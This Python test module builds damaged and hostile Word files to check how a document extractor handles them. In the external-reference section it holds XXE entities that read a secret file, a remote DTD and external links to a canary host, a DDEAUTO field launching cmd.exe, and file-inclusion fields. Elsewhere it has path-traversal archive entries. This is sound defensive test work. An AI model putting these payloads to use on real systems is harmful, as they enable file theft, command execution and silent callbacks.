"""DOCX and OOXML damage: broken packages, odd but legal ones, and those that call home."""

import base64
import io
import re
import struct
import zipfile
from itertools import chain

from tests.hostile.case import Case, Family
from tests.hostile.cfb_bytes import compound_file
from tests.hostile.statement import CANARY, LINES, PLANTED, SAYS, SECRET, SECRET_FILE
from tests.hostile.zip_bytes import (
    CONTENT_TYPES,
    DOCUMENT,
    DOCUMENT_LINKS,
    document,
    docx,
    links,
    packed,
    paragraph,
    paragraphs,
    word_parts,
)

_URL = f"http://{CANARY}"
_DAMAGED = ("damaged_file", "no_text")
_GOOD = docx()


def cases() -> list[Case]:
    """Return the Word documents."""
    family = Family("Word documents")
    for add in (_packages, _parts, _outside, _contents, _bytes):
        add(family)
    return family.cases


def _packages(family: Family) -> None:
    parts = word_parts()
    plain = {name: content for name, content in parts.items() if name != CONTENT_TYPES}
    last = dict(sorted(parts.items(), reverse=True))
    family.whole("stored-without-compression.docx", docx(stored=True), SAYS)
    family.whole("content-types-at-the-end.docx", packed(last), SAYS)
    family.whole("large-comment-at-the-end.docx", _commented(_GOOD, b"-" * 60_000), SAYS)
    family.reads("rubbish-before-the-archive.docx", b"\r\n\r\n" + _GOOD, SAYS)
    family.reads("rubbish-after-the-archive.docx", _GOOD + bytes(2000), SAYS)
    family.reads("content-types-missing.docx", packed(plain), SAYS)
    family.reads("links-of-the-package-missing.docx", docx({"_rels/.rels": None}), SAYS)
    family.reads("links-of-the-document-missing.docx", docx({DOCUMENT_LINKS: None}), SAYS)
    family.refused("document-missing.docx", docx({DOCUMENT: None}), *_DAMAGED, "unsupported_type")
    family.refused("document-empty.docx", docx({DOCUMENT: b""}), *_DAMAGED)
    twice = [*parts.items(), (DOCUMENT, document(paragraph("Another account altogether.")))]
    family.either("document-twice.docx", packed(twice), "damaged_file", "unsafe_archive")
    backslashes = {name.replace("/", "\\"): content for name, content in parts.items()}
    family.either("names-with-backslashes.docx", packed(backslashes), *_DAMAGED, says=[SAYS])
    capitals = {name.replace("word/document", "Word/Document"): c for name, c in parts.items()}
    family.either("names-in-other-capitals.docx", packed(capitals), *_DAMAGED, says=[SAYS])
    moved = word_parts({DOCUMENT: None, "elsewhere/text.xml": document(paragraphs())})
    moved["_rels/.rels"] = links(("officeDocument", "elsewhere/text.xml", "Internal"))
    moved[CONTENT_TYPES] = moved[CONTENT_TYPES].replace(b"word/document", b"elsewhere/text")
    family.whole("document-by-another-name.docx", packed(moved), SAYS)
    climbing = docx({f"../../../../tmp/{PLANTED}.txt": b"x", f"/tmp/{PLANTED}-2.txt": b"x"})
    family.reads("parts-with-paths-upwards.docx", climbing, SAYS)


def _commented(data: bytes, comment: bytes) -> bytes:
    return data[:-2] + struct.pack("<H", len(comment)) + comment


def _parts(family: Family) -> None:
    body = document(paragraphs())
    half = document(paragraphs() + paragraph("Nobody else was there that day.") * 20)
    variants = {
        "document-with-a-byte-order-mark": b"\xef\xbb\xbf" + body,
        "document-in-utf-16": body.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        "document-with-comments-in-xml": body.replace(b"<w:p>", b"<!-- p --><w:p>"),
        "document-with-instructions-in-xml": body.replace(b"<w:body>", b"<?go now?><w:body>"),
        "document-with-unknown-elements": body.replace(
            b"<w:p>", b"<w:zz w:q='1'><w:y/></w:zz><w:p>"
        ),
        "document-with-unknown-names": body.replace(b"<w:body>", b"<x:a xmlns:x='urn:x'/><w:body>"),
    }
    for name, content in variants.items():
        family.whole(f"{name}.docx", docx({DOCUMENT: content}), SAYS)
    broken = {
        "document-cut-off": half[:-400],
        "document-with-a-bare-ampersand": body.replace(b"gave the scarf", b"gave & the scarf"),
        "document-with-a-control-character": body.replace(b"gave the", b"gave\x01 the"),
        "document-with-tags-crossed": body.replace(b"</w:t></w:r>", b"</w:r></w:t>", 1),
        "document-with-undeclared-names": body.replace(b"<w:body>", b"<q:a/><w:body>"),
        "document-that-says-a-wrong-encoding": body.replace(b"UTF-8", b"UTF-99"),
        "document-with-broken-utf-8": body.replace(b"scarf", b"scar\xc3f"),
    }
    for name, content in broken.items():
        family.either(f"{name}.docx", docx({DOCUMENT: content}), "damaged_file", says=[SAYS])
    family.refused(
        "document-of-random-bytes.docx",
        docx({DOCUMENT: bytes((n * 59) % 256 for n in range(3000))}),
        *_DAMAGED,
    )
    family.refused("document-without-paragraphs.docx", docx({DOCUMENT: document("")}), "no_text")
    style = b"<w:styles xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>"
    styles = {"word/styles.xml": style, DOCUMENT_LINKS: links(("styles", "styles.xml", "Internal"))}
    family.reads("styles-cut-off.docx", docx(styles), SAYS)
    family.reads(
        "links-of-the-document-cut-off.docx",
        docx({DOCUMENT_LINKS: links(("styles", "s.xml", "Internal"))[:-40]}),
        SAYS,
    )
    gone = {
        DOCUMENT_LINKS: links(("styles", "none.xml", "Internal"), ("image", "../x", "Internal"))
    }
    family.reads("links-to-parts-that-are-not-there.docx", docx(gone), SAYS)


def _outside(family: Family) -> None:
    """Everything that asks for something outside the file."""
    entity = document(
        paragraphs() + "<w:p><w:r><w:t>&e;</w:t></w:r></w:p>",
        before=f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{SECRET_FILE}">]>',
    )
    remote = document(
        paragraphs(), before=f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{_URL}/x.dtd"> %p;]>'
    )
    for name, content in (("a-file", entity), ("an-address", remote)):
        family.either(
            f"entity-from-{name}.docx",
            docx({DOCUMENT: content}),
            "unsafe_file",
            "damaged_file",
            says=[SAYS],
            hides=[SECRET],
        )
    types = word_parts()[CONTENT_TYPES]
    declared = types.replace(
        b"<Types", f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{SECRET_FILE}">]><Types'.encode()
    )
    family.either(
        "entity-in-the-content-types.docx",
        docx({CONTENT_TYPES: declared}),
        "unsafe_file",
        "damaged_file",
        says=[SAYS],
        hides=[SECRET],
    )
    external = {
        "template-from-an-address": ("attachedTemplate", f"{_URL}/template.dotm"),
        "picture-from-an-address": ("image", f"{_URL}/picture.png"),
        "object-from-an-address": ("oleObject", f"{_URL}/object.bin"),
        "frame-from-an-address": ("frame", f"{_URL}/frame.html"),
        "template-from-a-share": ("attachedTemplate", f"//{CANARY}/share/t.dotm"),
        "document-part-from-a-file": ("subDocument", f"file://{SECRET_FILE}"),
    }
    for name, (kind, target) in external.items():
        content = docx({DOCUMENT_LINKS: links((kind, target, "External"))})
        family.reads(f"{name}.docx", content, SAYS, hides=[SECRET])
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%s</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    for name, code in (
        ("dde", f'DDEAUTO c:\\\\windows\\\\cmd.exe "/k echo {PLANTED}"'),
        ("include", f'INCLUDETEXT "{SECRET_FILE}"'),
        ("include-picture", f'INCLUDEPICTURE "{_URL}/i.png"'),
    ):
        content = document(paragraphs() + field % code.replace('"', "&quot;"))
        family.reads(f"field-{name}.docx", docx({DOCUMENT: content}), SAYS, hides=[SECRET])
    macros = {"word/vbaProject.bin": compound_file({"VBA/dir": b"Sub AutoOpen()" * 40})}
    family.reads("macros-inside.docm", docx(macros), SAYS)
    chunk = word_parts(
        {
            DOCUMENT: document(paragraphs() + '<w:altChunk r:id="rId1"/>'),
            DOCUMENT_LINKS: links(("aFChunk", "chunk.html", "Internal")),
            "word/chunk.html": f'<img src="{_URL}/c.png">'.encode(),
        }
    )
    family.reads("web-page-inside.docx", packed(chunk), SAYS)
    program = word_parts(
        {
            "word/embeddings/oleObject1.bin": compound_file({"\x01Ole10Native": b"MZ" * 500}),
            DOCUMENT_LINKS: links(("oleObject", "embeddings/oleObject1.bin", "Internal")),
        }
    )
    family.reads("program-inside.docx", packed(program), SAYS)


def _contents(family: Family) -> None:
    """Odd but legal ways of writing words."""
    run = '<w:r><w:t xml:space="preserve">%s</w:t></w:r>'
    letters = "".join(f"<w:p>{''.join(run % c for c in line)}</w:p>" for line in LINES)
    cell = "<w:tc><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:tc>"
    table = "<w:tbl>" + "".join(f"<w:tr>{cell % line}</w:tr>" for line in LINES) + "</w:tbl>"
    control = f"<w:sdt><w:sdtPr/><w:sdtContent>{paragraphs()}</w:sdtContent></w:sdt>"
    inserted = "".join(
        f'<w:p><w:ins w:id="1" w:author="x">{run % line}</w:ins></w:p>' for line in LINES
    )
    deleted = (
        '<w:p><w:del w:id="2" w:author="x"><w:r><w:delText>Nobody ran at all.</w:delText></w:r>'
        "</w:del></w:p>"
    )
    hidden = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Nobody saw this.</w:t></w:r></w:p>"
    box = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox>'
        f"<w:txbxContent>{paragraphs()}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    )
    breaks = "<w:br/>".join(f"<w:t>{line}</w:t>" for line in LINES)
    variants = {
        "letter-by-letter": letters,
        "all-in-a-table": table,
        "all-in-a-content-control": control,
        "all-inserted-by-tracking": inserted,
        "all-in-a-text-box": box,
        "lines-by-breaks": f"<w:p><w:r>{breaks}</w:r></w:p>",
        "words-in-a-link": paragraphs()
        .replace("<w:r>", '<w:hyperlink w:anchor="a"><w:r>')
        .replace("</w:r>", "</w:r></w:hyperlink>"),
        "hyphens-that-do-not-break": paragraphs().replace(
            "green jacket", "green</w:t><w:t> jacket"
        ),
        "smart-tags": re.sub(
            r"(<w:r>.*?</w:r>)", r'<w:smartTag w:element="x">\1</w:smartTag>', paragraphs()
        ),
    }
    for name, content in variants.items():
        family.whole(f"{name}.docx", docx({DOCUMENT: document(content)}), SAYS)
    more = document(paragraphs() + deleted)
    family.reads(
        "words-deleted-by-tracking.docx", docx({DOCUMENT: more}), SAYS, hides=["Nobody ran at all"]
    )
    more = document(paragraphs() + hidden)
    family.reads("words-hidden.docx", docx({DOCUMENT: more}), SAYS, hides=["Nobody saw this"])


def _bytes(family: Family) -> None:
    """The archive itself, broken."""
    end = _GOOD.index(b"PK\x01\x02")
    family.either("cut-before-the-directory.docx", _GOOD[:end], "damaged_file", says=[SAYS])
    family.either("cut-in-the-first-part.docx", _GOOD[:120], "damaged_file")
    flipped = bytearray(_GOOD)
    with zipfile.ZipFile(io.BytesIO(_GOOD)) as archive:
        info = archive.getinfo(DOCUMENT)
    at = info.header_offset + 30 + len(DOCUMENT) + info.compress_size // 2
    for place in range(at, at + 12):
        flipped[place] ^= 0x5A
    family.either("document-with-bits-flipped.docx", bytes(flipped), "damaged_file", "no_text")
    crc = bytearray(docx(stored=True))
    at = bytes(crc).index(b"green jacket")
    crc[at] ^= 0x01
    family.either("document-with-a-wrong-checksum.docx", bytes(crc), "damaged_file")
    method = _GOOD.replace(b"\x14\x00\x00\x00\x08\x00", b"\x14\x00\x00\x00\x63\x00")
    family.refused(
        "compressed-by-an-unknown-method.docx", method, "damaged_file", "password_protected"
    )
    locked = compound_file(
        {"EncryptionInfo": b"\x04\x00\x04\x00" + bytes(200), "EncryptedPackage": bytes(4096)}
    )
    family.refused("locked-with-a-password.docx", locked, "password_protected")
    bits = bytearray(_GOOD)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := bits.find(mark, at + 1)) >= 0:
            bits[at + place] |= 1
    family.refused(
        "entries-marked-as-locked.docx", bytes(bits), "password_protected", "damaged_file"
    )
    sheet = {name.replace("word/", "xl/"): content for name, content in word_parts().items()}
    family.refused("workbook-of-no-words.xlsx", packed(sheet), "unsupported_type")
    flat = base64.b64encode(_GOOD)
    family.either(
        "document-in-base64.docx",
        b"\r\n".join(chain([flat[n : n + 76] for n in range(0, len(flat), 76)])),
        "unsupported_type",
    )
